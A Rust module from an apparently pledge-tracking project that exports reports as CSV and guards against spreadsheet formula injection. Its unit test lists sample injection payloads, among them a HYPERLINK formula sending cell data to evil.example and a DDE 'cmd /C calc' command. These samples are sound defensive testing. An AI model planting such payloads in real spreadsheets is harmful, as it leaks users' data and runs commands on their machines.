//! The projections for spreadsheets: CSV (RFC 4180, UTF-8, a header row), money in major units
//! with its currency or unit in a column of its own, shares as exact decimal fractions, every
//! cell a spreadsheet would run as a formula neutralised. The command line's `--format csv` and
//! HTTP's `text/csv` are these bytes.

use pledger_core::measure::format_decimal;
use pledger_core::projection::{format_halves, AreaCoverage, MemberScore, Members, MonthRow, PledgeStatus, UnitSums};
use pledger_core::{Total, Unit};

/// Rows of cells under a header.
pub struct Sheet {
    /// The column names.
    pub header: Vec<&'static str>,
    /// The rows, a cell per column.
    pub rows: Vec<Vec<String>>,
}

impl Sheet {
    /// A sheet with no rows yet.
    pub fn new(header: Vec<&'static str>) -> Sheet {
        Sheet { header, rows: Vec::new() }
    }

    /// Adds a row.
    pub fn push(&mut self, row: Vec<String>) {
        self.rows.push(row);
    }

    /// The sheet as CSV.
    pub fn to_csv(&self) -> Vec<u8> {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(&self.header).expect("writing CSV to memory cannot fail");
        for r in &self.rows {
            w.write_record(r.iter().map(|cell| inert(cell).into_owned())).expect("writing CSV to memory cannot fail");
        }
        w.into_inner().expect("writing CSV to memory cannot fail")
    }
}

/// A cell as a spreadsheet will read it as text, never as a formula: one that begins with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, as OWASP's advice on CSV
/// injection has it — unless it is a plain number (`-3`, `12.50`), which no spreadsheet runs.
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let number = |s: &str| {
        let digits = s.strip_prefix('-').unwrap_or(s);
        let (whole, frac) = digits.split_once('.').unwrap_or((digits, "0"));
        !whole.is_empty() && !frac.is_empty() && (whole.bytes().chain(frac.bytes())).all(|b| b.is_ascii_digit())
    };
    match cell.bytes().next() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !number(cell) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// A value in major units, plain (`1500000`, `12500.50`).
pub fn value(u: &Unit, v: impl Into<Total>) -> String {
    format_decimal(v, u.exponent(), false)
}

fn list(v: &Members) -> String {
    v.iter().map(|m| m.as_str()).collect::<Vec<_>>().join(", ")
}

/// A row per pledge.
pub fn status(rows: &[PledgeStatus]) -> Sheet {
    let mut sheet = Sheet::new(vec![
        "pledge", "pledger", "beneficiary", "category", "areas", "unit", "pledged", "withdrawn", "claimed",
        "confirmed", "disputed", "outstanding", "beyond", "made", "due", "state", "met", "days_late", "tranches",
        "title",
    ]);
    for s in rows {
        let u = &s.measure();
        sheet.push(vec![
            s.id.to_string(),
            s.pledger.to_string(),
            s.beneficiary.to_string(),
            s.category.to_string(),
            s.areas.iter().map(|a| a.as_str()).collect::<Vec<_>>().join(","),
            u.name().to_owned(),
            value(u, s.words),
            value(u, s.withdrawn),
            value(u, s.claimed),
            value(u, s.confirmed),
            value(u, s.disputed),
            value(u, s.outstanding),
            value(u, s.beyond),
            s.made.to_string(),
            s.due.to_string(),
            s.state.as_str().to_owned(),
            s.met.map(|d| d.to_string()).unwrap_or_default(),
            s.days_late.map(|d| d.to_string()).unwrap_or_default(),
            // Each tranche as `due value state`, `;`-separated.
            s.tranches
                .iter()
                .map(|t| {
                    let state = serde_json::to_value(t.state).ok().and_then(|v| v.as_str().map(str::to_owned));
                    format!("{} {} {}", t.due, value(u, t.value), state.unwrap_or_default())
                })
                .collect::<Vec<_>>()
                .join("; "),
            s.title.to_string(),
        ]);
    }
    sheet
}

/// A row per member and unit, so that sums can be added up and pivoted.
pub fn scorecard(card: &[MemberScore]) -> Sheet {
    let mut sheet = Sheet::new(vec![
        "member", "name", "kind", "pledges", "follow_through", "claimed_rate", "withdrawn_share", "on_time_share",
        "judged", "on_time", "median_delay_days", "overdue", "unit", "pledged", "withdrawn", "claimed", "confirmed",
    ]);
    let share = |ppm: u64| format_decimal(ppm, 6, false);
    for m in card {
        let common = vec![
            m.member.to_string(),
            m.name.to_string(),
            m.kind.as_str().to_owned(),
            m.pledges.to_string(),
            share(m.follow_through_ppm),
            share(m.claimed_rate_ppm),
            share(m.withdrawn_share_ppm),
            m.on_time_share_ppm.map(share).unwrap_or_default(),
            m.judged.to_string(),
            m.on_time.to_string(),
            m.median_delay_half_days.map(format_halves).unwrap_or_default(),
            m.overdue.to_string(),
        ];
        let units: Vec<(Unit, &UnitSums)> = m.sums.iter().filter_map(|s| s.measure().map(|u| (u, s))).collect();
        if units.is_empty() {
            let mut row = common.clone();
            row.extend(std::iter::repeat_n(String::new(), 5));
            sheet.push(row);
        }
        for (u, s) in units {
            let mut row = common.clone();
            row.push(u.name().to_owned());
            row.extend([s.words, s.withdrawn, s.claimed, s.confirmed].map(|v| value(&u, v)));
            sheet.push(row);
        }
    }
    sheet
}

/// A row per area and category (an area no category reaches: one row, the category empty), so
/// that a spreadsheet can filter and pivot on either.
pub fn coverage(cov: &[AreaCoverage]) -> Sheet {
    let mut sheet = Sheet::new(vec![
        "area", "name", "level", "parent", "status", "pledging", "delivered", "category", "category_status",
    ]);
    for a in cov {
        let row = |category: String, status: String| {
            vec![
                a.code.to_string(),
                a.name.to_string(),
                a.level.as_str().to_owned(),
                a.parent.as_ref().map(|p| p.to_string()).unwrap_or_default(),
                a.status.as_str().to_owned(),
                list(&a.pledging),
                list(&a.delivered),
                category,
                status,
            ]
        };
        if a.categories.is_empty() {
            sheet.push(row(String::new(), String::new()));
        }
        for c in &a.categories {
            sheet.push(row(c.category.to_string(), c.status.as_str().to_owned()));
        }
    }
    sheet
}

/// A row per month and unit.
pub fn timeline(rows: &[MonthRow]) -> Sheet {
    let mut sheet = Sheet::new(vec![
        "month", "unit", "members", "pledged", "due", "confirmed", "withdrawn", "pledged_total", "due_total",
        "confirmed_total", "withdrawn_total",
    ]);
    for r in rows {
        let u = &r.measure();
        sheet.push(vec![
            r.month.clone(),
            u.name().to_owned(),
            r.members.to_string(),
            value(u, r.words),
            value(u, r.due),
            value(u, r.confirmed),
            value(u, r.withdrawn),
            value(u, r.words_total),
            value(u, r.due_total),
            value(u, r.confirmed_total),
            value(u, r.withdrawn_total),
        ]);
    }
    sheet
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn formulas_are_neutralised_and_numbers_left_alone() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "=",
            "-.5",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["", "12.50", "-3", "-0.25", "ML-3", "P-000001", "a=b", " =x", "USD"] {
            assert_eq!(inert(plain), plain, "{plain:?}");
        }
    }
}
